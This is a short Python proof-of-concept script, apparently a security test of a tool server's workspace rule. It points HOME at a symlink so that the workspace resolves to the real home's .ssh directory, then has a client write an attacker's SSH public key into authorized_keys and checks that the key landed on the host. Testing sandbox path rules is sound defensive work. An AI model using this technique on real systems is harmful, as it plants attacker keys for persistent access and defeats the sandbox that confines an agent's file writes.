# F1: a home reached through a symlink is not a home for the workspace rule.
# HOME=/tmp/atk32x/homelink (-> /tmp/atk32x/realhome); workspace = $HOME/.ssh. serve starts; a client writes authorized_keys.
import sys, json, os, subprocess
sys.path.insert(0, "/work/notes/atk32")
subprocess.run("sed 's#^workspace = .*#workspace = \"/tmp/atk32x/homelink/.ssh\"#' /tmp/atk32x/pol.toml > /tmp/atk32x/pol-f1.toml", shell=True)
import stdio
s = stdio.Stdio("/tmp/atk32x/pol-f1.toml", {"HOME": "/tmp/atk32x/homelink"})
r = s.call("write_file", {"path": "authorized_keys", "content": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKeyAttackerKeyAttackerKey attacker\n"})
print(json.dumps(stdio.sc(r))[:400])
r = s.run("ls", "-la")
print(stdio.sc(r).get("stdout"))
print("on host:", open("/tmp/atk32x/realhome/.ssh/authorized_keys").read())
